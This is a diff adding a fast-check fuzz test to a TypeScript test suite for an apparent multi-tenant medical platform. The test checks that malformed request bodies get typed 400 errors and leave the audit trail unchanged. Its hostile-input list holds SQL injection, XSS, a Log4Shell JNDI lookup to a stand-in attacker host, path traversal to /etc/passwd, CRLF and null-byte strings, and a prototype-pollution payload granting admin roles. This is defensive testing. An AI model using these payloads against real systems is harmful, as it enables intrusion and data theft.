@@ -1,6 +1,8 @@
 import { capabilities } from "@medloop/functions/declaration/index";
 import type { RouteDeclaration } from "@medloop/functions/declaration/types";
-import { RolesByKind, type TenantKind } from "@medloop/shared";
+import { Audit, RolesByKind, type TenantKind, withActor } from "@medloop/shared";
+import { Db } from "@medloop/shared/db/service";
+import fc from "fast-check";
 import { decodeJwt, generateKeyPair, importPKCS8, type JWTPayload, SignJWT } from "jose";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { eventually } from "../test/eventually.ts";
@@ -269,3 +271,99 @@ describe("tenant context comes from the token only", () => {
     expect(res.body.error.code).toBe("invalid-input");
   });
 });
+
+/**
+ * Fuzzing from the contracts (issue 12): every route that takes a body gets bodies made from its
+ * valid sample by fast-check — one field given a value of another type, a boundary, an oversized or
+ * hostile string, a prototype key, a field left out, or no object at all — and sent by a user the
+ * route admits. The route's own zod schema says which of them are invalid; only those are sent,
+ * and each must be a 400 (`invalid-input`, or `invalid-json` for a bare string) that changed nothing: no 5xx, no write (the audit trail
+ * of every tenant gains access records only).
+ */
+describe("every declared route's body, fuzzed from its schema", () => {
+  const HOSTILE_STRINGS = [
+    "' OR '1'='1' --",
+    '"; DROP TABLE medloop; --',
+    "<script>alert(1)</script>",
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection probe, meant literally.
+    "${jndi:ldap://attacker.test/a}",
+    "../../../../etc/passwd",
+    "%00%0d%0a",
+    "x".repeat(100_000),
+    "\u202egnp.exe",
+    "A\u0000B",
+  ];
+  const hostileValue = fc.oneof(
+    fc.constantFrom<unknown>(null, true, -1, 0, 2 ** 53 + 1, -1e308, 1e308, "", [], {}, ...HOSTILE_STRINGS),
+    fc.string({ maxLength: 12 }),
+    fc.integer(),
+    fc.double({ noNaN: true, noDefaultInfinity: true }),
+    fc.array(fc.string({ maxLength: 4 }), { maxLength: 3 }),
+    fc.dictionary(fc.string({ maxLength: 4 }), fc.string({ maxLength: 4 }), { maxKeys: 2 }),
+  );
+  const mutations = (sample: unknown) => {
+    const fields = sample && typeof sample === "object" && !Array.isArray(sample) ? Object.keys(sample) : [];
+    const asObject = sample as Record<string, unknown>;
+    const variants: fc.Arbitrary<unknown>[] = [
+      // No object at all.
+      fc.constantFrom<unknown>(null, [], "body", 42, [sample]),
+      // Prototype keys alongside valid fields: never obeyed, refused where the schema is strict.
+      fc.constant({ ...asObject, ...JSON.parse('{"__proto__":{"roles":["admin"]},"constructor":{"prototype":{}}}') }),
+    ];
+    if (fields.length) {
+      variants.push(
+        fc.tuple(fc.constantFrom(...fields), hostileValue).map(([f, v]) => ({ ...asObject, [f]: v })),
+        fc.constantFrom(...fields).map((f) => Object.fromEntries(Object.entries(asObject).filter(([k]) => k !== f))),
+      );
+    }
+    return fc.oneof(...variants);
+  };
+  const withBody = protectedRoutes.filter((r) => r.request?.body);
+
+  it("answers every invalid body with a typed 400 and writes nothing, on every route that takes one", async () => {
+    const tenants = Object.values(DEMO_TENANT_OF_KIND);
+    const heads = new Map(await Promise.all(tenants.map(async (t) => [t, await auditHead(t)] as const)));
+    expect(heads.get("acme-med")).toBeGreaterThan(0); // the seed's records: the trail is read, not empty
+    const answers: { route: string; status: number; code?: string }[] = [];
+    let valid = 0;
+    for (const r of withBody) {
+      const kind = (r.kinds ?? ["manufacturer"])[0]!;
+      const tenant = DEMO_TENANT_OF_KIND[kind];
+      const role = (r.roles as readonly string[]).find((x) => (RolesByKind[kind] as readonly string[]).includes(x))!;
+      const token = await signIn(tenant, `${role}@${tenant}.test`);
+      const s = routeSamples[key(r)]!(victim);
+      // A fixed seed per route: a failure names its route and replays the same bodies.
+      for (const body of fc.sample(mutations(s.body), { numRuns: 8, seed: hashOf(key(r)) })) {
+        if (r.request!.body!.safeParse(body).success) {
+          valid++;
+          continue;
+        }
+        const res = await p.call(r.method, fillPath(r.path, s.params), { body, token });
+        answers.push({ route: key(r), status: res.status, code: res.body?.error?.code });
+      }
+    }
+    console.log(
+      `fuzz: ${withBody.length} routes with a body, ${answers.length} invalid bodies sent (${valid} valid ones not sent)`,
+    );
+    // A string body is sent as it is, so some are not JSON at all: refused as such.
+    expect(answers.filter((a) => a.status !== 400 || !["invalid-input", "invalid-json"].includes(a.code!))).toEqual([]);
+    await p.settled();
+    for (const t of tenants) expect([t, await auditedSince(t, heads.get(t)!)]).toEqual([t, ["access"]]);
+  });
+});
+
+/** A seed for fast-check from a route's key. */
+const hashOf = (text: string) => [...text].reduce((h, c) => (h * 31 + c.charCodeAt(0)) | 0, 7);
+
+const auditHead = (tenantId: string) => withActor({ type: "system", tenantId, name: "test" }, () => Audit.headSeq());
+
+/** The entity types of a tenant's audit records after `seq` (the platform runs in this process). */
+async function auditedSince(tenantId: string, seq: number): Promise<string[]> {
+  const head = await auditHead(tenantId);
+  const types = new Set<string>(["access"]);
+  for (let s = seq + 1; s <= head; s++) {
+    const { data } = await Db.entities.auditRecord.get({ tenantId, bucket: Math.floor(s / 1000), seq: s }).go();
+    if (data) types.add(data.entityType);
+  }
+  return [...types];
+}
